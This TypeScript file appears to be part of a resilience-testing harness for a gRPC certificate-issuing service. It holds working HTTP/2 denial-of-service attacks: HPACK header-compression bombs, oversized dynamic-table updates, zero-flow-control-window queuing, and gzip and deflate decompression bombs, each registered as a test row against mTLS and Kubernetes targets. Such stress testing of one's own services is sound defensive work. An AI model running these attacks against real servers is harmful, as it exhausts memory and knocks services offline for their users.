/** Header compression turned against memory: small blocks that become large lists, and table sizes. */
import { deflateSync, gzipSync } from "node:zlib";
import { concat, headers, repeat, rstStream, setting } from "../http2/frames.ts";
import { grpcHeaders, grpcMessage, issueMessage, methodPaths } from "../http2/grpc_request.ts";
import { encodeHeaders, indexed, literal, tableSizeUpdate } from "../http2/hpack.ts";
import { dataFrames } from "../http2/connection.ts";
import type { RawConnection } from "../http2/connection.ts";
import { repeatInParallel } from "../harness/repetition.ts";
import type { Attack, ServiceRow } from "../harness/row.ts";
import { pause } from "../harness/service_row.ts";

const connections = 4;

/** The most recent entry of the dynamic table. */
const newest = indexed(62);

const callBlock = encodeHeaders(grpcHeaders(methodPaths.issue));

/**
 * A list of 60 KB, just below what servers permit, in a block of 150 bytes. What is written at once
 * is read in one iteration of the server's event loop, and the resets free the places for further streams.
 */
export async function writeBombs(
  connection: RawConnection,
  callBlock: Uint8Array,
  streams: number,
): Promise<boolean> {
  const first = connection.nextStream();
  if (first === 1) {
    if (!await connection.becomesReady()) return false;
    const entry = literal(["x-a", "b".repeat(3_900)], "indexed");
    await connection.send(headers(first, concat(callBlock, entry), { endStream: true }));
  }
  const block = concat(callBlock, repeat(newest, 14));
  const bombs = Array.from({ length: streams }, () => {
    const stream = connection.nextStream();
    return concat(headers(stream, block), rstStream(stream));
  });
  return await connection.send(...bombs);
}

/** 60 KB of references to an entry of 4 KB: 240 MB of header list a stream. */
function references(stream: number): Uint8Array {
  const entry = literal(["x-a", "b".repeat(4_000)], "indexed");
  const block = concat(callBlock, entry, repeat(newest, 60_000));
  return headers(stream, block, { endStream: true });
}

/** As many pairs as possible of which each weighs little. */
function manyPairs(stream: number): Uint8Array {
  const entry = literal(["a", ""], "indexed");
  const block = concat(callBlock, entry, repeat(newest, 8_000));
  return headers(stream, block, { endStream: true });
}

function sizeGame(stream: number): Uint8Array {
  const sizes = [0, 4_096, 0, 1, 4_095].map(tableSizeUpdate);
  const block = concat(repeat(concat(...sizes), 200), callBlock);
  return headers(stream, block, { endStream: true });
}

function hugeSize(stream: number): Uint8Array {
  const block = concat(tableSizeUpdate(0x7fff_ffff), callBlock);
  return headers(stream, block, { endStream: true });
}

async function onFour(
  attack: Attack,
  options: Parameters<Attack["connect"]>[0],
  write: (connection: RawConnection) => Promise<boolean>,
): Promise<string> {
  let writes = 0;
  await repeatInParallel(attack, connections, async (_, sequence) => {
    const connection = await attack.connect(options, sequence).catch(() => undefined);
    if (connection === undefined) return;
    while (!attack.isSpent() && attack.isAlive() && await write(connection)) {
      writes++;
      await pause(1);
    }
    connection[Symbol.dispose]();
  });
  return `${writes} writes`;
}

/** Limits in SETTINGS apply once these are acknowledged, which is not done here. */
function perStream(make: (stream: number) => Uint8Array) {
  return (attack: Attack) =>
    onFour(
      attack,
      { polite: false },
      (connection) => connection.send(make(connection.nextStream())),
    );
}

/** Answers that cannot be sent are kept; each costs the service a signature first. */
function zeroWindow(attack: Attack): Promise<string> {
  const call = encodeHeaders(grpcHeaders(methodPaths.issue, attack.credentials));
  const message = grpcMessage(issueMessage(attack.service.certificateRequest));
  const options = { settings: [[setting.initialWindowSize, 0] as const] };
  return onFour(attack, options, (connection) => {
    const stream = connection.nextStream();
    return connection.send(headers(stream, call), ...dataFrames(stream, message));
  });
}

/** Messages that are small on the wire and large when decompressed, a number of them on each stream. */
function compressed(
  encoding: "gzip" | "deflate",
  { bytes, messages }: { bytes: number; messages: number },
  options: Parameters<Attack["connect"]>[0] = {},
) {
  const message = new Uint8Array(bytes);
  const packed = encoding === "gzip" ? gzipSync(message) : deflateSync(message);
  const body = repeat(grpcMessage(new Uint8Array(packed), { compressed: 1 }), messages);
  return (attack: Attack) => {
    const more = [["grpc-encoding", encoding] as const, ...attack.credentials];
    const call = encodeHeaders(grpcHeaders(methodPaths.issue, more));
    return onFour(attack, options, (connection) => {
      const stream = connection.nextStream();
      return connection.send(headers(stream, call), ...dataFrames(stream, body));
    });
  };
}

/** More than any method accepts, and the largest size that a report may have. */
const tooMuch = { bytes: 16 * 1024 * 1024, messages: 1 };
const permitted = { bytes: 500 * 1024, messages: 300 };

const attacks: Readonly<Record<string, (attack: Attack) => Promise<string>>> = {
  "hpack bomb of 60 KB a stream": (attack) =>
    onFour(attack, { polite: false }, (connection) => writeBombs(connection, callBlock, 5_000)),
  "hpack bomb of 60,000 references": perStream(references),
  "hpack with thousands of pairs": perStream(manyPairs),
  "hpack table sizes": perStream(sizeGame),
  "hpack table of 2 GB": perStream(hugeSize),
  "answers behind a zero window": zeroWindow,
  "gzip of 16 MiB of zeros": compressed("gzip", tooMuch),
  "gzip messages queued": compressed("gzip", permitted),
  "deflate messages queued": compressed("deflate", permitted),
  "gzip messages queued behind a zero window": compressed("gzip", permitted, {
    settings: [[setting.initialWindowSize, 0]],
  }),
};

export const headerTableRows: readonly ServiceRow[] = [
  ...Object.entries(attacks).map(([name, run]): ServiceRow => ({
    name: `memory/${name}`,
    position: "node",
    target: "mtls",
    isLong: name.startsWith("deflate") || name === "hpack table of 2 GB",
    run,
  })),
  ...(["hpack bomb of 60 KB a stream", "gzip messages queued"] as const).flatMap((name) =>
    ([["unauthenticated", "mtls"], ["pod", "mtls"], ["unauthenticated", "kubernetes"]] as const)
      .map(
        ([position, target]): ServiceRow => ({
          name: `memory/${name}`,
          position,
          target,
          run: attacks[name]!,
        }),
      )
  ),
];
